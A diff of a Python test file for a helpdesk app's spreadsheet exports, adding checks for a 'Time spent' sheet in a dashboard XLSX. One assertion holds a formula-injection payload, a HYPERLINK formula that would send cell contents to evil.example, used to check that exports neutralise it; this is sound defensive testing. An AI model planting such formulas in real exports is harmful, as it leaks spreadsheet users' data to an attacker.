@@ -70,7 +70,7 @@ def test_organisation_csv_neutralises_a_customers_formula(
     )
 
 
-def test_dashboard_xlsx_has_summary_trend_and_tickets(
+def test_dashboard_xlsx_has_summary_trend_time_spent_and_tickets(
     client, sylwia, fortnight, evil_ticket
 ):
     client.login(email=sylwia.email, password=PASSWORD)
@@ -81,13 +81,17 @@ def test_dashboard_xlsx_has_summary_trend_and_tickets(
     )
 
     workbook = load_workbook(io.BytesIO(response.content))
-    assert workbook.sheetnames == ["Summary", "Trend", "Tickets"]
+    assert workbook.sheetnames == ["Summary", "Trend", "Time spent", "Tickets"]
     tickets = list(workbook["Tickets"].values)
     assert len(tickets) == 1 + 6
     subjects = [row[1] for row in tickets[1:]]
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"Kliknij")' in subjects
     summary = {row[0]: row[1] for row in workbook["Summary"].values}
     assert summary["Tickets created"] == 6
+    assert list(workbook["Time spent"].values)[:2] == [
+        ("By", "Name", "Minutes", "Hours"),
+        ("Total", None, 0, 0),
+    ]
 
 
 def test_organisation_report_downloads_as_a_pdf_with_polish_letters(
